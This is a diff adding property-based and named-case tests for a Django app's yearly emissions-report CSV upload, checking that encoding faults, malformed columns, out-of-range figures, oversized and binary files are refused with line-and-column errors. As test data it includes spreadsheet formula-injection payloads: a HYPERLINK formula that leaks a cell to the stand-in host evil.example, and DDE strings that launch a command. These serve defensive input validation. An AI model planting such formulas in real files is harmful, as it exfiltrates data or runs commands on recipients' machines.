@@ -46,6 +46,7 @@ from members.notifications.tokens import make_token
 from members.notifications.tokens import read_token as read_unsubscribe_token
 from members.regions import PREFECTURE_CHOICES, REGIONS
 from members.services.imports import IMPORT_COLUMNS
+from members.spreadsheets import FORMULA_STARTS
 from members.tokens import application_edit_token, read_application_token
 from tests.cooperation.conftest import make_expertise, make_need
 from tests.factories import (
@@ -944,6 +945,388 @@ def test_form_answers_any_post_without_error_and_saves_nothing_it_refuses(client
         if case.spec.outcome is not None:
             case.spec.outcome(world, response)
         transaction.set_rollback(True)
+
+
+# ---------------------------------------------------------------------------------------------
+# The yearly reports' CSV upload (progress): hostile files
+# ---------------------------------------------------------------------------------------------
+
+# A contact uploads a year's figures per row (working_groups/progress/services.py reports_upload).
+# The generic form test above cannot say whether a file *should* be refused; these build the file
+# and know: each defect they put in is a (line, column) the answer must name, or a file-level fault
+# (encoding, columns, size) the form's file error must name. A file without a defect is imported,
+# its figures are stored as written, and the same file again changes nothing.
+
+REPORT_UPLOAD = "/members/alpha/progress/reports/upload/"
+REQUIRED_REPORT_COLUMNS = ["fiscal_year", "scope1", "scope2", "energy_gj", "renewable_share", "floor_area",
+                           "headcount"]
+TEXT_REPORT_COLUMNS = ["narrative_ja", "narrative_en", "data_notes"]
+DECIMAL_REPORT_COLUMNS = ["scope1", "scope2", "scope3", "energy_gj", "renewable_share"]
+EOL = re.compile(r"\r\n|\r|\n")
+# cells every number column refuses (an empty one only where the column is required)
+BAD_NUMBERS = ["-1", "-0.1", "abc", "1,000", "1 000", "=1+1", "+SUM(A1)", "@SUM(1)", "NaN", "Infinity", "-inf",
+               "sNaN", "1e309", "0.05", "9" * 30, "9" * 5000, "0x10", "１２.３４", "1.2.3", "1e-400"]
+BAD_CELLS = {
+    "scope1": ["10000000.1", "10000001", "2e7"],
+    "scope2": ["10000000.1", "12345678", "1E8"],  # a unit error: 10 million t-CO2e is no university's
+    "scope3": ["10000000.1", "99999999999"],
+    "energy_gj": ["100000000.1", "1e9"],
+    "renewable_share": ["100.1", "101", "1e3", "150"],
+    "floor_area": ["0", "1.5", "1e3", "50000001", "-5"],
+    "headcount": ["0", "2.5", "1000001", "-1"],
+}
+FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?leak="&A1,"詳細")', "=cmd|' /C calc'!A0", "+81-3-1234-5678",
+                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", " =1+1", "＝1+1", "＠SUM(1)"]
+NARRATIVE = st.text(st.sampled_from(list("森林電力太陽光省エネ化を進めたLED照明。、ーあいうabcXYZ019 ,;\"'\n")),
+                    max_size=40).filter(lambda s: not s.strip().startswith(FORMULA_STARTS))
+
+
+def _csv_line(cells, eol) -> str:
+    """One row as a spreadsheet writes it: a cell with a comma, a quotation mark or a line end
+    quoted (the csv module quotes only the line end it writes)."""
+    return ",".join('"' + c.replace('"', '""') + '"' if re.search(r'[,"\r\n]', c) else c for c in cells) + eol
+
+
+def _valid_row(draw, year) -> dict:
+    def decimal(top):
+        return draw(st.one_of(st.integers(0, top).map(str),
+                              st.decimals(0, top, places=1, allow_nan=False, allow_infinity=False).map(str)))
+
+    return {
+        "fiscal_year": str(year), "scope1": decimal(10_000_000), "scope2": decimal(10_000_000),
+        "scope3": draw(st.one_of(st.just(""), st.just(decimal(10_000_000)))), "energy_gj": decimal(100_000_000),
+        "renewable_share": decimal(100), "floor_area": str(draw(st.integers(1, 50_000_000))),
+        "headcount": str(draw(st.integers(1, 1_000_000))), "narrative_ja": draw(NARRATIVE),
+        "narrative_en": draw(NARRATIVE), "data_notes": draw(NARRATIVE),
+    }
+
+
+@dataclass
+class ReportFile:
+    """A file to upload and what the upload must answer."""
+
+    data: bytes
+    rows: dict  # fiscal year -> the row's cells by column (the file's values; when nothing is wrong)
+    columns: list  # the file's columns (normalised names)
+    defects: list  # [(line, column or None)]: each must be named by a row error
+    file_fault: list | None = None  # markers the file error must contain; None: the file is read
+    cells: list = None  # every cell, for the language check
+
+    def __repr__(self):
+        return (f"<csv {len(self.data)} bytes, defects {self.defects}, file fault {self.file_fault}: "
+                f"{self.data[:300]!r}>")
+
+
+@st.composite
+def report_files(draw, locked_year: int, last: int):
+    """A yearly reports file: the template's columns (reordered, some optional ones left out,
+    names in another case or with spaces), rows with valid figures, in UTF-8 (BOM or not) or
+    Shift_JIS with LF, CRLF or CR; then perhaps bad cells (each a defect of its line and column),
+    a year twice, a row with a cell too many or too few, and perhaps one fault of the whole file."""
+    columns = [c for c in services_upload_columns() if c in REQUIRED_REPORT_COLUMNS or draw(st.booleans())]
+    columns = draw(st.permutations(columns))
+    header = [draw(st.sampled_from([c, c.upper(), f" {c} ", c.title()])) for c in columns]
+    years = draw(st.lists(st.integers(last - 12, last).filter(lambda y: y != locked_year), max_size=4, unique=True))
+    rows = [_valid_row(draw, year) for year in years]
+    defects = []  # (row index, column or None)
+    mutated = set()
+    extra_cells = {}
+    for i in draw(st.lists(st.sampled_from(range(len(rows))), max_size=3, unique=True)) if rows else []:
+        how = draw(st.sampled_from(["number", "range", "formula", "long", "year", "twice", "locked", "cells",
+                                    "empty"]))
+        number_columns = [c for c in columns if c in DECIMAL_REPORT_COLUMNS + ["floor_area", "headcount"]]
+        text_columns = [c for c in columns if c in TEXT_REPORT_COLUMNS]
+        if how == "number":
+            column = draw(st.sampled_from(number_columns))
+            rows[i][column] = draw(st.sampled_from(BAD_NUMBERS))
+        elif how == "range":
+            column = draw(st.sampled_from([c for c in number_columns if c in BAD_CELLS]))
+            rows[i][column] = draw(st.sampled_from(BAD_CELLS[column]))
+        elif how in ("formula", "long") and text_columns:
+            column = draw(st.sampled_from(text_columns))
+            rows[i][column] = draw(st.sampled_from(FORMULA_CELLS)) if how == "formula" else "あ" * 2001
+        elif how == "year":
+            column = "fiscal_year"
+            rows[i][column] = draw(st.sampled_from(["", "FY2020", "2020.0", "-2020", "1999", "=2020", "9" * 30,
+                                                    "9" * 5000, str(last + 1), str(last + 5), "0x7e4"]))
+        elif how == "twice" and any(j < i and j not in mutated for j in range(len(rows))):
+            column = "fiscal_year"
+            rows[i][column] = rows[draw(st.sampled_from([j for j in range(i) if j not in mutated]))]["fiscal_year"]
+        elif how == "locked":
+            column = "fiscal_year"
+            rows[i][column] = str(locked_year)
+        elif how == "cells":
+            column = None
+            extra_cells[i] = draw(st.sampled_from([1, -1]))
+        elif how == "empty":
+            column = draw(st.sampled_from(REQUIRED_REPORT_COLUMNS))
+            rows[i][column] = draw(st.sampled_from(["", " ", "\u3000"]))
+        else:
+            continue
+        mutated.add(i)
+        defects.append((i, column))
+    eol = draw(st.sampled_from(["\n", "\r\n", "\r"]))
+    pieces = [_csv_line(header, eol)]
+    starts = []
+    for i, row in enumerate(rows):
+        if draw(st.integers(0, 5)) == 0:
+            pieces.append(eol)  # a blank line is skipped
+        starts.append(len(pieces))
+        cells = [row[c] for c in columns]
+        if extra_cells.get(i) == 1:
+            cells.append("x")
+        elif extra_cells.get(i) == -1:
+            cells = cells[:-1]
+        pieces.append(_csv_line(cells, eol))
+
+    def line_of(piece):
+        return 1 + sum(len(EOL.findall(p)) for p in pieces[:piece])
+
+    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "cp932"]))
+    text = "".join(pieces)
+    data = text.encode(encoding)
+    file_fault = None
+    fault = draw(st.sampled_from([None] * 6 + ["missing", "duplicate", "unknown", "utf-16", "utf-16-le", "byte",
+                                               "nul", "empty", "header", "binary", "huge", "rows", "quote",
+                                               "field"]))
+    if fault == "missing":
+        gone = draw(st.sampled_from(REQUIRED_REPORT_COLUMNS))
+        keep = [n for n, c in enumerate(columns) if c != gone]
+        lines = [_csv_line([header[n] for n in keep], eol)] + [
+            _csv_line([row[columns[n]] for n in keep], eol) for row in rows]
+        data, file_fault = "".join(lines).encode(encoding), [gone]
+    elif fault in ("duplicate", "unknown"):
+        name = draw(st.sampled_from(columns)) if fault == "duplicate" else draw(
+            st.sampled_from(["scope_3", "備考", "extra", "Scope 1"]))
+        lines = [_csv_line([*header, name], eol)] + [_csv_line([*(row[c] for c in columns), "1"], eol)
+                                                       for row in rows]
+        data, file_fault = "".join(lines).encode(encoding), [name.strip().lower()]
+    elif fault in ("utf-16", "utf-16-le"):
+        data, file_fault = text.encode(fault), ["UTF-16"]
+    elif fault == "byte" and rows:
+        at = len("".join(pieces[:starts[-1]]).encode(encoding))
+        data, file_fault = data[:at] + b"\xff" + data[at:], [line_marker(line_of(starts[-1]))]
+    elif fault == "nul":
+        at = draw(st.integers(0, len(text)))
+        text = text[:at] + "\x00" + text[at:]
+        data, file_fault = text.encode(encoding), [line_marker(1 + len(EOL.findall(text[:at])))]
+    elif fault == "empty":
+        data, file_fault = draw(st.sampled_from([b"", b"\xef\xbb\xbf", b"\n\n", b"\r\n"])), []
+    elif fault == "header":
+        data, file_fault = pieces[0].encode(encoding), []
+    elif fault == "binary":
+        data = draw(st.one_of(st.binary(min_size=1, max_size=300).filter(lambda b: b"\x00" in b or b"\xff" in b),
+                              st.sampled_from([_image("PNG"), PDF, b"PK\x03\x04" + b"\x00" * 30])))
+        file_fault = []
+    elif fault == "huge":
+        data, file_fault = data + b"x" * (256 * 1024 + 1 - len(data)) + b"\n", ["256"]
+    elif fault == "rows":
+        line = _csv_line([rows[0][c] if rows else _valid_row(draw, last)[c] for c in columns], eol)
+        data, file_fault = (pieces[0] + line * draw(st.integers(101, 400))).encode(encoding), ["100"]
+    elif fault == "quote":
+        data, file_fault = (text + '"' + "森林" * 3 + eol + "2020,1").encode(encoding), [
+            line_marker(1 + len(EOL.findall(text)))]
+    elif fault == "field" and rows:
+        data, file_fault = (text + '"' + "x" * 140_000 + '"' + eol).encode(encoding), [
+            line_marker(1 + len(EOL.findall(text)))]
+    if file_fault is None and not rows:
+        file_fault = []  # the columns and no row: nothing to import is said as such
+    cells = [v for row in rows for v in row.values()] + header
+    return ReportFile(data=data, rows={int(r["fiscal_year"]): r for r in rows} if not defects else {},
+                      columns=columns, defects=[(line_of(starts[i]), c) for i, c in defects],
+                      file_fault=file_fault, cells=cells)
+
+
+def services_upload_columns():
+    from working_groups.progress.services import UPLOAD_COLUMNS
+
+    return UPLOAD_COLUMNS
+
+
+def line_marker(line: int) -> int:
+    """A line the file error must name (as \"3行目\" or \"Line 3\", in the page's language)."""
+    return line
+
+
+def _stored(report, column):
+    value = getattr(report, column)
+    return "" if value is None else value
+
+
+def _written(column, cell: str):
+    cell = cell.strip()
+    if column in TEXT_REPORT_COLUMNS:
+        return cell
+    if cell == "":
+        return ""
+    from decimal import Decimal
+
+    return Decimal(cell) if column in DECIMAL_REPORT_COLUMNS else int(cell)
+
+
+def check_report_upload(client, lang: str, upload: ReportFile, *, dry_run: bool, where: str):
+    """Post ``upload`` as alpha's contact: never a 5xx; a file with a defect is refused with each
+    defect named (its line, and its column for a cell), in the page's language, and nothing
+    changes; a file without one is imported as written (a dry run changes nothing), and the same
+    file a second time changes nothing."""
+    before = snapshot()
+    existing = {r.fiscal_year: r for r in YearlyReport.objects.filter(institution__slug="alpha")}
+
+    def post():
+        return client.post(f"/{lang}{REPORT_UPLOAD}", {
+            "file": SimpleUploadedFile("reports.csv", upload.data, content_type="text/csv"),
+            "check" if dry_run else "import": "1"})
+
+    response = post()
+    status = response.status_code
+    assert status < 500, f"{where}: {status}"
+    refused = upload.file_fault is not None or upload.defects
+    if refused:
+        assert status == 200, f"{where}: a bad file answered {status}"
+        assert snapshot() == before, f"{where}: a refused file changed rows"
+        page = response.content.decode()
+        form, result = response.context["form"], response.context["result"]
+        if upload.file_fault is not None:
+            said = [str(m) for m in form.errors.get("file", [])]
+            assert said, f"{where}: a bad file, but no error at the file: {result and result.errors}"
+            assert_error_next_to(page, "file")
+            for marker in upload.file_fault:
+                if isinstance(marker, int):
+                    marker = f"{marker}行目" if lang == "ja" else f"Line {marker}"
+                assert any(marker in m for m in said), f"{where}: {marker!r} is not named in {said}"
+        else:
+            assert result is not None and result.errors, f"{where}: bad rows, but no row error: {form.errors}"
+            said = [str(m) for _line, m in result.errors]
+            for line, column in upload.defects:
+                at_line = [str(m) for n, m in result.errors if n == line]
+                assert at_line, f"{where}: line {line} ({column}) is not named: {result.errors}"
+                if column:
+                    assert any(column in m for m in at_line), f"{where}: {column} is not named: {at_line}"
+            for line, _column in upload.defects:
+                assert (f"{line}行目" if lang == "ja" else f"Line {line}") in page, f"{where}: line {line} not shown"
+        assert_in_language(said, lang, upload.cells + services_upload_columns(), f"{where}: upload error")
+        return
+    errors = (response.context["result"].errors if status == 200 and response.context.get("result") else
+              response.context["form"].errors if status == 200 else None)
+    if dry_run:
+        assert status == 200 and response.context["result"].ok, f"{where}: a good file was refused: {errors}"
+        assert snapshot() == before, f"{where}: a dry run changed rows"
+        return
+    assert status == 302, f"{where}: a good file was refused ({status}): {errors}"
+    stored = {r.fiscal_year: r for r in YearlyReport.objects.filter(institution__slug="alpha")}
+    for year, row in upload.rows.items():
+        report = stored[year]
+        assert report.status in ("draft", "returned"), f"{where}: FY{year} is {report.status}"
+        for column in upload.columns:
+            if column != "fiscal_year":
+                assert _stored(report, column) == _written(column, row[column]), \
+                    f"{where}: FY{year} {column} is {getattr(report, column)!r}, the file said {row[column]!r}"
+        for column in set(services_upload_columns()) - set(upload.columns):  # a column left out: unchanged
+            if year in existing:
+                assert getattr(report, column) == getattr(existing[year], column), \
+                    f"{where}: FY{year} {column} changed though the file has no such column"
+    assert set(stored) == set(existing) | set(upload.rows), f"{where}: other years changed"
+    after = snapshot()
+    again = post()
+    assert again.status_code == 302, f"{where}: the same file a second time: {again.status_code}"
+    assert snapshot() == after, f"{where}: the same file a second time changed rows"
+
+
+@pytest.fixture
+def report_upload(client, world):
+    """alpha's contact signed in; alpha has a report under review (``world.report``) and a draft
+    the files may change."""
+    last = current_fiscal_year() - 1
+    YearlyReport.objects.create(
+        institution=world.alpha, fiscal_year=last - 3, scope1=10, scope2=20, energy_gj=100, renewable_share=5,
+        floor_area=1000, headcount=50, narrative_ja="前年の取組", data_notes="請求書")
+    client.force_login(world.contact)
+    return world.report.fiscal_year, last
+
+
+@settings(FUZZ, max_examples=FORM_EXAMPLES * 2)
+@given(data=st.data())
+def test_report_upload_answers_any_file_and_saves_only_a_good_one(client, world, report_upload, data):
+    """Hostile yearly-report files (encodings, line ends, columns, cells, sizes, binaries), in either
+    language, checked or imported: never a 5xx; what is wrong is named by line and column, in the
+    page's language, and changes nothing; a good file is imported as written, once."""
+    locked, last = report_upload
+    lang = data.draw(st.sampled_from(LANGS), label="lang")
+    upload = data.draw(report_files(locked, last), label="file")
+    dry_run = data.draw(st.booleans(), label="dry_run")
+    with transaction.atomic():
+        check_report_upload(client, lang, upload, dry_run=dry_run, where="upload")
+        transaction.set_rollback(True)
+
+
+def _file(text: str, encoding="utf-8") -> bytes:
+    return text.encode(encoding)
+
+
+UPLOAD_HEADER = ("fiscal_year,scope1,scope2,scope3,energy_gj,renewable_share,floor_area,headcount,narrative_ja,"
+                 "narrative_en,data_notes")
+
+
+def _good(year, **cells) -> str:
+    row = {"fiscal_year": str(year), "scope1": "1200.5", "scope2": "3400", "scope3": "", "energy_gj": "65000",
+           "renewable_share": "18.5", "floor_area": "120000", "headcount": "9000", "narrative_ja": "LED化を進めました",
+           "narrative_en": "", "data_notes": "", **cells}
+    return _csv_line([row[c] for c in UPLOAD_HEADER.split(",")], "\n")
+
+
+def _cases(last, locked):
+    """The hostile files the issue names, one each: (file, row defects, file fault)."""
+    h = UPLOAD_HEADER + "\n"
+    good = h + _good(last) + _good(last - 2)
+    return {
+        "shift_jis": (_file(good, "cp932"), [], None),
+        "utf-8 with BOM, CRLF": (_file(good.replace("\n", "\r\n"), "utf-8-sig"), [], None),
+        "CR only": (_file(good.replace("\n", "\r")), [], None),
+        "utf-16": (_file(good, "utf-16"), [], ["UTF-16"]),
+        "utf-16 without BOM": (_file(good, "utf-16-le"), [], ["UTF-16"]),
+        "invalid utf-8 on line 3": (_file(h + _good(last)) + b"20\xff\xfe19,1,1,,1,1,1,1,,,\n", [], [3]),
+        "missing column": (_file(good.replace("scope2,", "", 1)), [], ["scope2"]),
+        "extra column": (_file(h.strip() + ",memo\n" + _good(last).strip() + ",x\n"), [], ["memo"]),
+        "duplicate column": (_file(h.strip() + ",scope1\n" + _good(last).strip() + ",5\n"), [], ["scope1"]),
+        "formula": (_file(h + _good(last, narrative_ja='=HYPERLINK("https://evil.example/")')), [(2, "narrative_ja")],
+                    None),
+        "huge file": (_file(good) + b"x" * 300_000, [], ["256"]),
+        "huge row count": (_file(h + _good(last) * 500), [], ["100"]),
+        "negative": (_file(h + _good(last, scope1="-5")), [(2, "scope1")], None),
+        "absurd": (_file(h + _good(last, energy_gj="1e400")), [(2, "energy_gj")], None),
+        "scope 2 over 10 million": (_file(h + _good(last, scope2="10000000.1")), [(2, "scope2")], None),
+        "renewable share over 100": (_file(h + _good(last, renewable_share="100.5")), [(2, "renewable_share")], None),
+        "future year": (_file(h + _good(last + 1)), [(2, "fiscal_year")], None),
+        "year under review": (_file(h + _good(locked)), [(2, "fiscal_year")], None),
+        "the same year twice": (_file(h + _good(last) + _good(last)), [(3, "fiscal_year")], None),
+        "a row with a cell too many": (_file(h + _good(last).strip() + ",x\n"), [(2, None)], None),
+        "narrative too long": (_file(h + _good(last, narrative_en="a" * 2001)), [(2, "narrative_en")], None),
+        "empty file": (b"", [], []),
+        "header only": (_file(h), [], []),
+        "binary": (_image("PNG"), [], []),
+        "NUL": (_file(h + _good(last).replace("1200.5", "12\x000")), [], [2]),
+        "quotation mark not closed": (_file(h + _good(last) + '"2020,1,1\n'), [], [3]),
+    }
+
+
+CASE_NAMES = list(_cases(2024, 2023))
+
+
+@pytest.mark.parametrize("lang", LANGS)
+@pytest.mark.parametrize("case", CASE_NAMES)
+def test_report_upload_answers_each_named_hostile_file(client, world, report_upload, case, lang):
+    """Each hostile file the issue names, in both languages."""
+    locked, last = report_upload
+    data, defects, fault = _cases(last, locked)[case]
+    text = data.decode("cp932" if case == "shift_jis" else "utf-8", "replace")
+    rows = {}
+    if not defects and fault is None:
+        import csv
+
+        rows = {int(r["fiscal_year"]): r for r in csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""))}
+    upload = ReportFile(data=data, rows=rows, columns=services_upload_columns(), defects=defects, file_fault=fault,
+                        cells=[c for line in EOL.split(text) for c in line.split(",")])
+    check_report_upload(client, lang, upload, dry_run=False, where=case)
 
 
 # ---------------------------------------------------------------------------------------------
